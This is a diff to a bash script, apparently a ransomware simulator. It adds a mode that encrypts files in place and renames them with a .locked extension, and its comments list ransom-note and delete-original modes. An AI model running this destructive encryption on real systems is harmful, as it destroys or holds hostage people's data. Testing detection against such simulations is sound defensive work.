@@ -28,6 +28,8 @@
 #   7z-delete     7z a -mx=0 -p -mhe=on FILE.7z (QLocker style), original deleted (the
 #                 password is 16 hex digits: 7z's key derivation costs per password byte)
 #   ccrypt        ccrypt -e -S .locked: encrypted in place, then renamed FILE.locked
+#   full-rename   as full (no header: as many bytes as before), then renamed
+#                 FILE.locked, as most ransomware families do
 #   notes         only drops README_RESTORE_FILES.txt (Bitcoin address, .onion link)
 #                 into every directory
 #
@@ -66,7 +68,7 @@ while [ $# -gt 0 ]; do
 	esac
 done
 case $MODE in
-full | header4k | skiphdr | intermittent | base64 | hex | gpg-delete | gpg-replace | age-rename | 7z-delete | ccrypt | notes) ;;
+full | header4k | skiphdr | intermittent | base64 | hex | gpg-delete | gpg-replace | age-rename | 7z-delete | ccrypt | full-rename | notes) ;;
 *) echo "attack.sh: unknown mode $MODE" >&2; usage ;;
 esac
 [[ $KEY =~ ^[0-9a-f]{64}$ ]] || { echo "attack.sh: --key needs 64 hex digits" >&2; exit 2; }
@@ -191,6 +193,10 @@ while IFS=$'\t' read -r -u 3 iv size mt rel; do
 	ccrypt)
 		ccrypt -e -f -q -S .locked -K "$KEY" "$f"
 		[ -f "$f.locked" ] || { echo "attack.sh: ccrypt did not write $f.locked" >&2; exit 1; }
+		keep_mtime "$f.locked" "$mt"; emit created "$f.locked" "$f"; emit deleted "$f" ;;
+	full-rename)
+		ctr "$iv" <"$f" | dd of="$f" bs=64K conv=notrunc iflag=fullblock status=none
+		mv -f "$f" "$f.locked"
 		keep_mtime "$f.locked" "$mt"; emit created "$f.locked" "$f"; emit deleted "$f" ;;
 	esac
 done 3<"$WORK/meta"
